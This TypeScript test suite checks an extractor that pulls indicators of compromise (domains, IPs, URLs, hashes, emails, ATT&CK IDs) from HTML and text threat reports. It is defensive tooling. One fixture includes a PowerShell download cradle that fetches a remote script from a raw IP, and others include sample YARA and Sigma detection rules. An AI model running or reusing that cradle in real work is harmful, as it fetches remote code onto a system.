import { type Extraction, extractFromHtml, extractFromText } from '../../src/ingest/index.ts'

const shown = ({ findings }: Extraction) => findings.map(({ type, value }) => `${type} ${value}`)
const text = (article: string) => shown(extractFromText(article))
const html = (article: string) => shown(extractFromHtml(article))

const MD5 = '9375cff0413111d3b88a00104b2a6677'
const SHA1 = '098b9a6ce722311553e1d8ac5849ba1dc5834c52'
const SHA256 = '0a0bd696ec0d98b6dc7cb655ae58370d4d13f08b91a92eef52a0ed1efbb8577e'
const SHA512 = `${SHA256}${SHA256}`

describe('a page', () => {
  it('is read without its navigation, scripts and footer, even when one of them is never closed', () => {
    const page = `<nav><a href="/">nav-site[.]com</a><header>top-site[.]com</header>
      <article><header>In short: first-site[.]com</header><script>var a = "script-site[.]com"</script>
      <p>second-site[.]com</p></article><footer>foot-site[.]com</footer>`
    expect(html(page)).toEqual(['domain first-site.com', 'domain second-site.com'])
  })

  it('may split values by <wbr>, spans, comments, entities and soft hyphens', () => {
    const page =
      '<p>one<wbr>-site<wbr>[.]<wbr>com</p><p><span>two-site</span><b>[.]</b><span>com</span></p>' +
      '<p>three<!-- x -->-site&#91;&period;&#x5d;com</p><p>four&shy;-site[.]com</p>'
    expect(html(page)).toEqual([
      'domain one-site.com',
      'domain two-site.com',
      'domain three-site.com',
      'domain four-site.com',
    ])
  })

  it('keeps cells, rows, lines and items apart', () => {
    const page = `<table><tr><td>${MD5}</td><td>one-site[.]com<br>two-site[.]com</td></tr><tr><td>a</td><td>8.8.7.7</td></tr>
      </table><ul><li>three-site[.]com</li><li>four-site[.]com</li></ul><div>five-site[.]com</div><div>six-site[.]com</div>`
    expect(html(page)).toEqual([
      `md5 ${MD5}`,
      'domain one-site.com',
      'domain two-site.com',
      'ipv4 8.8.7.7',
      'domain three-site.com',
      'domain four-site.com',
      'domain five-site.com',
      'domain six-site.com',
    ])
  })

  it('may have tags that are never closed', () => {
    const page = `<table><tr><td>${MD5}<td>one-site[.]com<tr><td>${SHA1}<td>two-site[.]com`
    expect(html(page)).toEqual([`md5 ${MD5}`, 'domain one-site.com', `sha1 ${SHA1}`, 'domain two-site.com'])
  })

  it('says by the headers of its columns what its cells are', () => {
    const page = `<table><thead><tr><th>File name</th><th>SHA-1</th><th>Domain</th><th>Provider</th></tr></thead>
      <tr><td>setup.sh</td><td>${SHA1}</td><td>plain-site.sh</td><td>Hosting.com</td></tr></table>`
    expect(html(page)).toEqual([`sha1 ${SHA1}`, 'domain plain-site.sh'])
  })

  it('says by its headings what stands below, until the next of the same level', () => {
    const page = `<h2>Indicators of Compromise</h2><h3>Domains</h3><ul><li>plain-one.zip</li></ul>
      <h3>Files</h3><ul><li>setup.zip</li></ul><h2>Conclusion</h2><p>Pack it into other.zip</p>`
    expect(html(page)).toEqual(['domain plain-one.zip'])
  })

  it('says by the type of a row what its other cells are', () => {
    const rows = `<tr><td>Filename</td><td>setup.zip</td></tr><tr><td>JA3</td><td>${MD5}</td></tr>
      <tr><td>Domain</td><td>plain-one.zip</td></tr><tr><td>SHA-1</td><td>${SHA1}</td></tr>`
    const found = ['domain plain-one.zip', `sha1 ${SHA1}`]
    expect(html(`<table><tr><th>Type</th><th>Indicator</th></tr>${rows}</table>`)).toEqual(found)
    expect(html(`<h2>IOCs</h2><table>${rows}</table>`)).toEqual(found)
  })

  it('takes bold lines and captions for headings', () => {
    const page = `<p><strong>C2 domains</strong></p><p>plain-one.zip</p>
      <table><caption>Samples</caption><tr><td>setup.zip</td></tr></table>`
    expect(html(page)).toEqual(['domain plain-one.zip'])
  })

  it('shows by a link that can be followed that a host is harmless; a link to a look-up says nothing', () => {
    const page = `<p>The malware uses the server <a href="https://nice-site.com/">nice-site.com</a> and
      <a href="https://lookup.vendor.com/?q=bad-site.com">bad-site.com</a> as domains.</p>`
    expect(html(page)).toEqual(['domain bad-site.com'])
  })

  it('keeps the lines of code, and reads the strings in it', () => {
    const page = `<pre><code class="x">import os.path
url = "http://one-site.net/p.php"
host = 'two-site.ru'
self.id = obj.name
</code></pre>`
    expect(html(page)).toEqual(['url http://one-site.net/p.php', 'domain two-site.ru'])
  })

  it('may have paragraphs in the headers of its columns', () => {
    const header = '<tr><td><p><b>File</b></p><p><b>name</b></p></td><td>\n<p>MD5</p>\n</td></tr>'
    const page = `<p>one-site[.]com</p><table>${header}<tr><td><p>audit.pl</p></td><td>${MD5}</td></tr></table>`
    expect(html(page)).toEqual(['domain one-site.com', `md5 ${MD5}`])
  })

  it('may have footnotes', () => {
    const page = `<p>It asks one-site[.]com<sup><a href="#1">1</a></sup> and 8.8.7.7<sup>2</sup> for ${MD5}<sup>[3]</sup></p>`
    expect(html(page)).toEqual(['domain one-site.com', 'ipv4 8.8.7.7', `md5 ${MD5}`])
  })

  it('may have rows in its tables that say what stands below', () => {
    const title = (words: string) => `<tr><td colspan="2"><b>${words}</b></td></tr>`
    const rows = `${title('Domains')}<tr><td>plain-one.zip</td><td>C2</td></tr>${title('Files')}<tr><td>Name</td><td>MD5</td></tr>
      <tr><td>setup.zip</td><td>${MD5}</td></tr>`
    expect(html(`<table>${rows}</table>`)).toEqual(['domain plain-one.zip', `md5 ${MD5}`])
    const named = `<table>${title('File IOCs')}<tr><td>Name</td><td>MD5</td></tr><tr><td>run.sh</td><td>${MD5}</td></tr></table>`
    expect(html(named)).toEqual([`md5 ${MD5}`])
  })

  it('may have labels right behind its values', () => {
    const page = `<li><span>one-site[.]com</span><span>C2 server</span></li><li><a href="/a">8.8.7[.]7</a><a href="/b">VT</a></li>
      <p><span>three</span><span>-site[.]com</span><span>.br</span></p>`
    expect(html(page)).toEqual(['domain one-site.com', 'ipv4 8.8.7.7', 'domain three-site.com.br'])
  })

  it('may have headings that are clicked', () => {
    const page = `<h2><button type="button">Domains</button></h2><div>plain-one.zip</div>
      <h2><button>Files</button></h2><div>setup.zip</div><button>one-site[.]com</button>`
    expect(html(page)).toEqual(['domain plain-one.zip'])
  })

  it('may leave it to styles to set hashes and the names of kinds apart', () => {
    const page = `<div><span>Loader.exe</span><span>${SHA256}</span><span>12 kB</span></div>
      <div><span>SHA1</span><span>${SHA1}</span></div><div><b>Domain</b><span>one-site.com</span></div>
      <div><span>${SHA512.slice(0, 64)}</span><span>${SHA512.slice(64)}</span></div>`
    expect(html(page)).toEqual([
      `sha256 ${SHA256}`,
      `sha1 ${SHA1}`,
      'domain one-site.com',
      `sha512 ${SHA512}`,
    ])
  })

  it('may hide e-mail addresses from robots', () => {
    const hidden = `<a href="/cdn-cgi/l/email-protection" data-cfemail="${hiding('help@one-site.com')}">[email&#160;protected]</a>`
    expect(
      html(`<h2>Addresses in the ransom note</h2><ul><li>${hidden}</li><li>${hidden}x</li></ul>`),
    ).toEqual(['email help@one-site.com'])
    const open = `<a data-cfemail="${hiding('help@one-site.com')}"><p>C2: two-site[.]com</p>`
    expect(html(`<h2>Ransom note</h2>${open}`)).toContain('domain two-site.com')
    expect(html(`<p>bad code: <span data-cfemail="4c2e2">one-site[.]com</span></p>`)).toEqual([
      'domain one-site.com',
    ])
  })

  it('takes what stands under a mutex for none', () => {
    expect(
      html(`<dl><dt>Mutex</dt><dd>${MD5}</dd><dt>MD5</dt><dd>${MD5.replace('9', '8')}</dd></dl>`),
    ).toEqual([`md5 ${MD5.replace('9', '8')}`])
  })
})

/** Bytes, each with the bits of the first one turned. */
const hiding = (email: string) =>
  Buffer.from([0x4c, ...Buffer.from(email).map((byte) => byte ^ 0x4c)]).toString('hex')

describe('a text', () => {
  it('may have a blank before the dot at the head of a line', () => {
    expect(text('one-site\u00a0[.]com Domain\nIt appends [.]com to one [.]com\nExtension [.]com\n')).toEqual([
      'domain one-site.com',
    ])
  })

  it('with a label before a name that files could have', () => {
    expect(text('Files:\nDomain: one-site.zip\nC2:two-site.zip\nDecoy: setup.zip\n')).toEqual([
      'domain one-site.zip',
      'domain two-site.zip',
    ])
  })

  it('with mail from hosts that are indicators', () => {
    const article =
      'Mail came by ada@one-site.com, ask bob@two-site.com for more.\n\nC2: smtp.one-site[.]com, a.two-site[.]com\n'
    expect(text(article)).toEqual([
      'email ada@one-site.com',
      'domain smtp.one-site.com',
      'domain a.two-site.com',
    ])
  })

  it('with values between commas', () => {
    const list = 'url,hxxp://one-site[.]com/a,dropper,2026-01-03\nurl, http://two-site.com/a,b\n'
    expect(text(list)).toEqual(['url http://one-site.com/a', 'url http://two-site.com/a,b'])
  })

  it('with a rule of detection and who wrote it', () => {
    expect(html('<pre>title: a\nauthor: Ada (ada@one-site.com)\nsender: eve@two-site.com</pre>')).toEqual([
      'email eve@two-site.com',
    ])
    const rule = 'rule a\n{\n    meta:\n        author = "Ada"\n        email = "ada@one-site.com"\n}'
    expect(html(`<h2>Indicators of Compromise</h2><pre>${rule}</pre>`)).toEqual([])
    expect(text('```\nto = "x"\nemail = "eve@two-site.com"\n```')).toEqual(['email eve@two-site.com'])
  })

  it('with what is no hash on lines below its names', () => {
    expect(text(`c2\none-site.com\nmutex\n${MD5}\n`)).toEqual(['domain one-site.com'])
    expect(text(`name\nmd5\nimphash\n${MD5}\n`)).toEqual([`md5 ${MD5}`])
  })

  it('with hashes that go on in the next line', () => {
    const lines = (hash: string, width: number) => hash.match(new RegExp(`.{1,${width}}`, 'g'))?.join('\n')
    expect(text(`${lines(MD5, 16)}\n\nSHA-256: ${lines(SHA256, 22)}\n${lines(SHA1, 25)}`)).toEqual([
      `md5 ${MD5}`,
      `sha256 ${SHA256}`,
      `sha1 ${SHA1}`,
    ])
    expect(
      html(`<table><tr><td>${lines(SHA256, 40)?.replace('\n', '<br>')}</td><td>a.dll</td></tr></table>`),
    ).toEqual([`sha256 ${SHA256}`])
    expect(text(`${MD5}\n5f3e2a1b, its checksum`)).toEqual([`md5 ${MD5}`])
    expect(text(`${MD5}\n${MD5.replace('9', '8')}\n${SHA1}\n20260101`)).toEqual([
      `md5 ${MD5}`,
      `md5 ${MD5.replace('9', '8')}`,
      `sha1 ${SHA1}`,
    ])
  })

  it.each([
    ['dates', '20260101\n20260102\n20260103\n20260104\n20260105\n'],
    ['two numbers', '12345678901234567890\n12345678901234567891\n'],
    ['a number above something longer', `build 20240101\n${MD5.slice(8)}\n`],
    ['a short checksum above something longer', `9375cff0\n${MD5.slice(8)}\n`],
    ['a dump of bytes', `${MD5.slice(0, 16)}\n`.repeat(10)],
    ['halves of several hashes', `${MD5.slice(0, 16)}\n${MD5.slice(16)}\n`.repeat(2)],
  ])('with lines that are no hash: %s', (_what, lines) => {
    expect(text(`Malware:\n${lines}`)).toEqual([])
  })

  it('with a checksum above a hash, and hashes above a number', () => {
    expect(text(`CRC\n9375cff0\n${MD5}\n\nmalware\n`)).toEqual([`md5 ${MD5}`])
    expect(text(`${MD5}\n${MD5.replace('9', '8')}\n${MD5.slice(0, 16)}\n`)).toHaveLength(2)
  })

  it('below a rule is no front matter', () => {
    expect(text('---\n\n# Malware\n\none-site.net\n\n---\n\nmore\n')).toEqual(['domain one-site.net'])
  })

  it('with kinds of objects', () => {
    expect(text('set a = CreateObject("adodb.stream")\nNew-Object -ComObject "shell.app"\n')).toEqual([])
  })

  it('with bytes of a program', () => {
    expect(text(`data = b'${SHA256}'\nhash: '${SHA1}'\n`)).toEqual([`sha1 ${SHA1}`])
  })

  it('of an advisory with tables and techniques', () => {
    const article = `The actors use PsExec [T1569.002] and contact foo-leak[.]org. Contact report@cisa.gov.

Table 2: IP Addresses

| IP Address | First Seen | Provider |
|---|---|---|
| 23.106.223[.]97 | 2023-01-02 | LeaseWeb.com, Inc. |
| 45.134.26.174 | 2023-01-02 | Partner Hosting |
| 10.0.0.5 | internal | - |

## MITRE ATT&CK Techniques
Technique Title | ID | Use
--- | --- | ---
Valid Accounts | T1078 | used
Exfiltration | TA0010 | T1041

## Resources
- https://www.cisa.gov/resources
- https://some-unknown-blog.net/report
`
    expect(text(article)).toEqual([
      'mitre_attack T1569.002',
      'domain foo-leak.org',
      'ipv4 23.106.223.97',
      'ipv4 45.134.26.174',
      'mitre_attack T1078',
      'mitre_attack TA0010',
      'mitre_attack T1041',
    ])
  })

  it('with a table whose rows say of what type they are', () => {
    const article = `| Indicator | Type | Description |
|---|---|---|
| setup.zip | File name | Decoy |
| run.sh | Filename | fetched from one-site.com |
| ${MD5} | imphash | loader |
| ${SHA256} | JARM | |
| ${SHA1} | TLS cert SHA-1 | |
| plain-one.zip | Domain | C2 |
| ${SHA512} | SHA-512 | loader |
`
    expect(text(article)).toEqual(['domain one-site.com', 'domain plain-one.zip', `sha512 ${SHA512}`])
  })

  it('with a table of versions', () => {
    expect(text('| Product | Affected | Fixed |\n|---|---|---|\n| Foo | 9.1.2.3 | 9.1.2.4 |\n')).toEqual([])
    expect(text('| Software | Until |\n|---|---|\n| Foo | 9.1.2.3 |\n')).toEqual([])
    expect(text('| Product | C2 |\n|---|---|\n| Foo | 9.1.2.3 |\n')).toEqual(['ipv4 9.1.2.3'])
    expect(text('| Affected IP |\n|---|\n| 91.2.3.4 |\n')).toEqual(['ipv4 91.2.3.4'])
  })

  it('with hosts below the hashes', () => {
    const list = `${MD5}\none-site.com\ntwo-site.com:8443\nsetup.zip\n`
    expect(text(`## IOCs\n\nHashes:\n${list}`)).toEqual([
      `md5 ${MD5}`,
      'domain one-site.com',
      'domain two-site.com',
    ])
    expect(
      html(`<h2>IOCs</h2><p><b>Files:</b><br>${MD5}</p><ul><li>one-site.com:8443</li><li>run.sh</li></ul>
        <pre>two-site.com\nthree-site.com</pre>`),
    ).toEqual([`md5 ${MD5}`, 'domain one-site.com', 'domain two-site.com', 'domain three-site.com'])
  })

  it('with names of hosts that could be files among those that could not', () => {
    expect(text('one-site.com\ntwo-site.in\nget.three.sh\nrun.sh\nhttp://four-site.com/\n')).toEqual([
      'domain one-site.com',
      'domain two-site.in',
      'domain get.three.sh',
      'url http://four-site.com/',
    ])
    expect(text('one-site.com\nget.three.sh\nsetup.exe\n')).toEqual(['domain one-site.com'])
    expect(text('91.2.3.4\none-site.my\nThese are all of them.\n')).toEqual([
      'ipv4 91.2.3.4',
      'domain one-site.my',
    ])
    expect(text('Domains:\n- app.one-site.app\n')).toEqual(['domain app.one-site.app'])
    expect(text('They use a phishing page at one-site.pages.dev.')).toEqual(['domain one-site.pages.dev'])
    expect(text('IoC ->\none-site.net\ntwo-site.app\nthree-site.net\n')).toEqual([
      'domain one-site.net',
      'domain two-site.app',
      'domain three-site.net',
    ])
  })

  it('whose table was torn into lines', () => {
    expect(text('IP address\nDomain\n91.2.3.4\none-site.com\n91.2.3.5\ntwo-site.net\n')).toEqual([
      'ipv4 91.2.3.4',
      'domain one-site.com',
      'ipv4 91.2.3.5',
      'domain two-site.net',
    ])
  })

  it('of a case report: lists below words that say what they are, command lines, certificates', () => {
    const article = `It beaconed to first-site.co and 172.93.181.165:443. They ran \`ping -n 1 dc01.corp.local\`.

Cobalt Strike C2:
second-site.com
23.82.140.91
149.248.52.187:443
JA3: ${MD5}
Serial: ${MD5}
Thumbprint: ${SHA1}

cmd.exe /c C:\\Users\\x.com\\run.sh && powershell -c "(New-Object Net.WebClient).DownloadString('http://185.10.68.123/a.ps1')"
`
    expect(text(article)).toEqual([
      'domain first-site.co',
      'ipv4 172.93.181.165',
      'domain second-site.com',
      'ipv4 23.82.140.91',
      'ipv4 149.248.52.187',
      `sha1 ${SHA1}`,
      'url http://185.10.68.123/a.ps1',
    ])
  })

  it('with rules of YARA and Sigma', () => {
    const article = `\`\`\`yara
rule foo {
  meta:
    reference = "https://unknown-blog.net/report"
    hash1 = "${SHA256}"
  strings:
    $a = "cmd.exe /c start"
    $u = "http://one-site.net/p.php"
    $d = "two-site.ru"
  condition: filesize < 1MB and uint16(0) == 0x5a4d
}
\`\`\`

\`\`\`yaml
references:
    - https://unknown-blog.net/post
tags:
    - attack.command-and-control
    - attack.t1071.001
detection:
    selection:
        QueryName|endswith:
            - 'three-site.com'
\`\`\`
`
    expect(text(article)).toEqual([
      `sha256 ${SHA256}`,
      'url http://one-site.net/p.php',
      'domain two-site.ru',
      'mitre_attack T1071.001',
      'domain three-site.com',
    ])
  })

  it('with JSON', () => {
    const article =
      '{"url":"http:\\/\\/one-site.com\\/a.php","ip":"8.209.77.1","host":"two-site.com","version":"4.3.2.1","pkg":"lodash.merge"}'
    expect(text(article)).toEqual(['url http://one-site.com/a.php', 'ipv4 8.209.77.1', 'domain two-site.com'])
  })

  it('with names of files beside hashes', () => {
    expect(text(`${MD5}  setup.sh\n${SHA256} *doc.zip\n${SHA1},a.py\n`)).toEqual([
      `md5 ${MD5}`,
      `sha256 ${SHA256}`,
      `sha1 ${SHA1}`,
    ])
  })

  it('with names of files beside hashes, below words on hosts', () => {
    const list = `HASHES OF ARCHIVES FROM THE ABOVE URLS:\n\n- ${SHA256}  one-two.zip\n- three-four.zip: ${MD5}\n`
    expect(text(list)).toEqual([`sha256 ${SHA256}`, `md5 ${MD5}`])
  })

  it('with references as remarks above its lists', () => {
    const list = `# Reference: https://one-lab.io/gui/file/a

one-site.com/a/b.php
two-site.solutions/c.php

# Reference: https://one-blog.net/post

three-site.net
`
    expect(text(list)).toEqual(['domain one-site.com', 'domain two-site.solutions', 'domain three-site.net'])
  })

  it('with rows of commas, whose urls end with their cells', () => {
    const rows = `Malicious URLs:

http://one-site.com/a.zip,url,loader
http://two-site.com/b/,2026-01-02T00:00:00Z,loader
http://three-site.com/c,,
2026-01-02,hxxp://four-site[.]com/d.zip,loader
2026-01-02;http://five-site.com/e.zip;loader
http://six-site.com/f,1.php?g=1,2;h
`
    expect(text(rows)).toEqual([
      'url http://one-site.com/a.zip',
      'url http://two-site.com/b/',
      'url http://three-site.com/c',
      'url http://four-site.com/d.zip',
      'url http://five-site.com/e.zip',
      'url http://six-site.com/f,1.php?g=1,2;h',
    ])
  })

  it('in Markdown, AsciiDoc, and with tabs', () => {
    expect(
      text(`**Domains**\n\n* \`one-site.zip\`\n* [two-site[.]com](https://lookup.example/two)\n`),
    ).toEqual(['domain one-site.zip', 'domain two-site.com'])
    expect(text(`== C&C servers\n\n----\nthree-site.zip\n----\n`)).toEqual(['domain three-site.zip'])
    expect(text(`Domain\tFile\nfour-site.zip\tsetup.zip\n`)).toEqual(['domain four-site.zip'])
  })

  it.each([
    ['Indicadores de compromiso', 'Dominios:', 'Archivos:'],
    ['Indicadores de comprometimento', 'Domínios', 'Ficheiros'],
    ['Indicateurs de compromission', 'Domaines', 'Fichiers'],
    ['Kompromittierungsindikatoren', 'Domänen', 'Dateien'],
    ['Индикаторы компрометации', 'Домены:', 'Файлы:'],
    ['侵害指標', 'ドメイン', 'ファイル：'],
    ['침해 지표', '도메인', '파일'],
    ['失陷指标', '域名：', '文件：'],
  ])('below the words %s, %s and %s', (indicators, domains, files) => {
    const found = ['domain one-site.zip']
    expect(text(`${indicators}\n\n${domains}\none-site.zip\n\n${files}\nsetup.zip\n`)).toEqual(found)
    expect(
      text(`# ${indicators}\n\n| ${domains} | ${files} |\n|---|---|\n| one-site.zip | setup.zip |\n`),
    ).toEqual(found)
  })

  it('in Chinese, glued to its values', () => {
    expect(
      text('\u8bbf\u95eeevil-site.com\u4e0b\u8f7d\u3002\nIP\uff1a91.2.3.4\uff0chttp://bad-site.net/a\u3002'),
    ).toEqual(['domain evil-site.com', 'ipv4 91.2.3.4', 'url http://bad-site.net/a'])
  })

  it('of news, where hosts are names of companies', () => {
    const article = `Tesla.com and Ticketshop.com customers were hit, reported BleepingComputer.com.
Visit https://www.ticketshop.com/help for details. The attackers registered t1cketshop-help.com, a phishing page.
For press, write press@ticketshop.com. Version 4.5.6.7 and earlier are vulnerable; upgrade to 4.5.6.8.`
    expect(text(article)).toEqual(['domain t1cketshop-help.com'])
  })
})
